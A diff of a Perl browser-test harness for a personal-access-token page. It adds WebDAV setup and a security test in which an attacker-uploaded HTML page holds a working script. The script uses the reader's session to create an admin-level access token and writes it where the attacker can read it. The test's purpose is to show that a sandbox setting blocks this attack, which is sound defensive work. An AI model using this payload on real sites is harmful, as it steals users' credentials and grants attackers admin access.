@@ -1,11 +1,16 @@
 # The Personal access tokens page (www/tokens.*) in headless Chromium,
 # against the real stack: httpd with the bbtoken-rest handler, PostgreSQL,
-# git-http-backend.  t/browser/tokens.spec.mjs (node:test, playwright-core)
-# logs in with a password, creates a token through the page (an impossible
-# permission combination is disabled), copies it, clones with the real git
-# client, renames it, revokes it after the confirmation dialog and sees git
-# refused.  It saves screenshots (see below).  This file only sets
-# the stack up and relays the TAP that node prints.
+# git-http-backend, configured as the README says (the page and the API on
+# a host of their own, with the API role; git on another).
+# t/browser/tokens.spec.mjs (node:test, playwright-core) logs in with a
+# password, creates a token through the page (an impossible permission
+# combination is disabled), copies it, clones with the real git client,
+# renames it, revokes it after the confirmation dialog and sees git
+# refused.  It saves screenshots (see below).  t/browser/sandbox.spec.mjs
+# plays a page uploaded over WebDAV onto the page's host that drives the
+# API in its reader's name: BBTokenSandbox stops it, and without it the
+# attack works.  This file only sets the stack up and relays the TAP that
+# node prints.
 #
 # Needs /usr/bin/chromium (Debian's chromium; BBT_CHROMIUM elsewhere) and
 # Node.js 20 with npm; runs `npm ci` in t/browser when node_modules is
@@ -37,21 +42,22 @@ unless (-d "$BDIR/node_modules/playwright-core") {
 
 my ($user, $password) = ('alice', 'alice-Pa55-word');
 
-# The page as a site would serve it: behind the site's ordinary login
-# (Basic, mod_authn_file), the user's name filled in by mod_include, and the
-# REST API behind the same login.
-my $extra = <<'EOC';
+# The page as the README serves it: on the API's host, behind the site's
+# ordinary login (AuthType BBToken with mod_authn_file), the user's name
+# filled in by mod_include, and the REST API behind the same login.  Also on
+# that host, against the README's advice: a WebDAV tree users write, under
+# /dav (BBTokenSandbox on, the default) and /dav-open (Off).
+my $api = <<'EOC';
 <Location /rest/access-tokens>
     SetHandler bbtoken-rest
-    AuthType Basic
+    AuthType BBToken
     AuthName "Example Corp"
-    AuthBasicProvider file
+    AuthBBTokenProvider file
     AuthUserFile "@DIR@/htpasswd"
+    BBTokenRoutes none
     Require valid-user
 </Location>
 
-# Only the types the page needs: no mime.types file is assumed.
-TypesConfig /dev/null
 Alias /account/tokens "@DIR@/www"
 <Directory "@DIR@/www">
     Options +IncludesNOEXEC
@@ -67,26 +73,60 @@ Alias /account/tokens "@DIR@/www"
     Header set Content-Security-Policy "default-src 'self'; frame-ancestors 'none'"
 </Directory>
 <Location /account/tokens>
-    AuthType Basic
+    AuthType BBToken
     AuthName "Example Corp"
-    AuthBasicProvider file
+    AuthBBTokenProvider file
     AuthUserFile "@DIR@/htpasswd"
+    BBTokenRoutes none
     Require valid-user
 </Location>
+Alias /dav "@DIR@/dav"
+Alias /dav-open "@DIR@/dav"
+<Directory "@DIR@/dav">
+    AddType text/html .html
+</Directory>
+<Location /dav>
+    Dav On
+    AuthType BBToken
+    AuthName "Example Corp"
+    AuthBBTokenProvider file
+    AuthUserFile "@DIR@/htpasswd"
+    BBTokenRoutes dav
+    Require bbtoken
+</Location>
+<Location /dav-open>
+    Dav On
+    AuthType BBToken
+    AuthName "Example Corp"
+    AuthBBTokenProvider file
+    AuthUserFile "@DIR@/htpasswd"
+    BBTokenRoutes dav /dav-open
+    BBTokenSandbox Off
+    Require bbtoken
+</Location>
 EOC
-my $env = BBT::Env->new(extra_conf => $extra,
-                        modules => [qw(auth_basic authn_file authz_user include mime dir headers)],
+my $env = BBT::Env->new(api_conf => $api, extra_conf => "DavLockDB \"\@DIR\@/davlock/lockdb\"\n"
+                            # Only the types the page needs: no mime.types file is assumed.
+                            . "TypesConfig /dev/null\n",
+                        port => BBT::Env::free_port(),
+                        modules => [qw(authn_file authz_user include mime dir headers dav dav_fs)],
                         httpd => 0)->start;
 my $d = $env->dir;
 
 # The page's files, where httpd's User can read them (a checkout may sit
-# where it cannot).
+# where it cannot), with git's host in bbtoken-scm.
 make_path("$d/www");
 chmod 0755, "$d/www";
 for my $f (qw(tokens.html tokens.css tokens.js)) {
     copy("$ROOT/www/$f", "$d/www/$f") or BAIL_OUT("copy www/$f: $!");
     chmod 0644, "$d/www/$f";
 }
+my $html = BBT::Env::slurp("$d/www/tokens.html");
+$html =~ s{<meta name="bbtoken-scm" content="/scm">}{<meta name="bbtoken-scm" content="${\ $env->base_url}/scm">}
+    or BAIL_OUT('tokens.html has no bbtoken-scm meta tag');
+BBT::Env::spew("$d/www/tokens.html", $html, 0644);
+make_path("$d/dav/PROJ/site", "$d/davlock");
+$env->give_to_httpd("$d/dav", "$d/davlock");
 $env->htpasswd($user => $password);
 $env->httpd_start;
 
@@ -102,15 +142,50 @@ BAIL_OUT('the CLI-made token does not work with git') if $rc0;
 my (undef, $old_id) = $env->token_create($user, name => 'Old deploy key', perms => ['REPO_READ']);
 $env->expire_token($old_id, 40);
 
+# The attacker may write a repository of the WebDAV tree, and uploads a
+# page whose script makes a token in its reader's name through the API and
+# uploads it beside itself, where the attacker reads it.
+$env->user_add('mallory');
+$env->grant('mallory', 'REPO_WRITE', 'PROJ/site');
+my $mallory = $env->token_create('mallory', name => 'site', perms => ['REPO_WRITE']);
+my $evil = <<"EOH";
+<!doctype html>
+<html><head><title>evil</title></head><body>
+<p>Nothing to see here.</p>
+<script>
+document.title = 'ran';
+const variant = location.pathname.split('/')[1];
+fetch('/rest/access-tokens/latest/users/$user', {
+  method: 'PUT',
+  headers: { 'Content-Type': 'application/json', 'X-Atlassian-Token': 'no-check' },
+  body: JSON.stringify({ name: 'pwned ' + variant, permissions: ['PROJECT_ADMIN', 'REPO_ADMIN'] }),
+}).then((r) => r.json()).then((j) => fetch('/' + variant + '/PROJ/site/loot-' + variant + '.txt', {
+  method: 'PUT', headers: { Authorization: 'Bearer $mallory' }, body: j.token || 'none',
+})).then(() => { document.title = 'done'; }, (e) => { document.title = 'failed ' + e; });
+</script>
+</body></html>
+EOH
+my $api_base = $env->api_base_url;
+{
+    my $in = "$d/run/evil.html";
+    BBT::Env::spew($in, $evil);
+    my ($rc, $code) = run_cmd(cmd => ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'PUT',
+                                      '-H', "Authorization: Bearer $mallory", '--data-binary', "\@$in",
+                                      "$api_base/dav/PROJ/site/evil.html"], timeout => 30);
+    BAIL_OUT("the attacker's upload failed: $rc $code") unless $code eq '201';
+}
+
 # Into the test's own directory: every run renders new pixels (times,
 # names), and t/browser/screenshots/ holds the reviewed set.  To refresh
 # that set: BBT_BROWSER_SHOTS=t/browser/screenshots build/test.sh t/55-browser.t
 my $shots = $ENV{BBT_BROWSER_SHOTS} || "$d/screenshots";
 ($rc, $out, $err) = run_cmd(
-    cmd => ['node', '--test-reporter=tap', "$BDIR/tokens.spec.mjs"],
+    cmd => ['node', '--test', '--test-concurrency=1', '--test-reporter=tap', "$BDIR/tokens.spec.mjs",
+            "$BDIR/sandbox.spec.mjs"],
     cwd => $BDIR, timeout => 300, tmp => "$d/run",
     env => {
-        BBT_BASE => $env->base_url, BBT_USER => $user, BBT_PASSWORD => $password,
+        BBT_BASE => $api_base, BBT_SCM_BASE => $env->base_url, BBT_USER => $user, BBT_PASSWORD => $password,
+        BBT_ATTACKER_TOKEN => $mallory, BBT_EVIL => '/PROJ/site/evil.html',
         BBT_PROJECT => 'PROJ', BBT_REPO => 'repo',
         BBT_USED_NAME => 'Jenkins CI', BBT_EXPIRED_NAME => 'Old deploy key',
         BBT_GIT_HOME => "$d/home", BBT_WORK => "$d/work", BBT_SHOTS => $shots,
